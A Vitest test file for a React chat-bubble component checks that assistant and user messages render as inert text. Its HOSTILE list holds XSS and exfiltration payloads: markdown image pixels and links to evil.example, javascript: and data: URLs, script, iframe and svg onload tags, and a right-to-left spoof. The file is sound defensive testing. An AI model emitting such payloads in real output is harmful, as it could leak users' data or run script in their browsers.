import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { ChatBubble } from './ChatBubble.tsx';

const HOSTILE = [
  '![pixel](https://evil.example/t?d=everything)', '[click here](https://evil.example/?d=1)', '[x](javascript:alert(1))', '<https://evil.example/auto>', 'https://evil.example/plain www.evil.example a@evil.example',
  '<img src=x onerror=alert(1)>', '<a href="https://evil.example">x</a>', '<script>alert(1)</script>', '<style>@import url(https://evil.example/x.css)</style>', '<iframe src="https://evil.example"></iframe>',
  '- ![a](//evil.example/a)\n- [b]: https://evil.example/b\n1. <svg onload=alert(1)>', '&lt;img src=x&gt;', '[ref][1]\n\n[1]: https://evil.example', '![x][1]\n\n[1]: data:text/html,<script>alert(1)</script>', '\u202ehttps://elpmaxe.live',
];

describe.each(['assistant', 'person'] as const)('words of the %s', (role) => {
  test.each(HOSTILE)('load nothing, run nothing and cannot be clicked: %s', (text) => {
    const markup = renderToStaticMarkup(createElement(ChatBubble, { role, name: 'Agents', text }));
    expect(markup).not.toMatch(/<(?:a|img|script|style|iframe|svg|object|embed|link|form|input|button|video|audio|source|meta|base)\b/i);
    expect(markup.replace(/<[^>]*>/g, '')).toContain(text.split('\n')[0]!.replace(/^- /, '').slice(0, 5).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'));
    const attributes = [...markup.matchAll(/<\w+((?:\s[^<>]*)?)>/g)].flatMap((tag) => [...tag[1]!.matchAll(/\s([\w-]+)(?==)/g)].map((attribute) => attribute[1]!));
    expect(attributes.filter((name) => name !== 'class' && name !== 'data-role')).toEqual([]);
  });
});
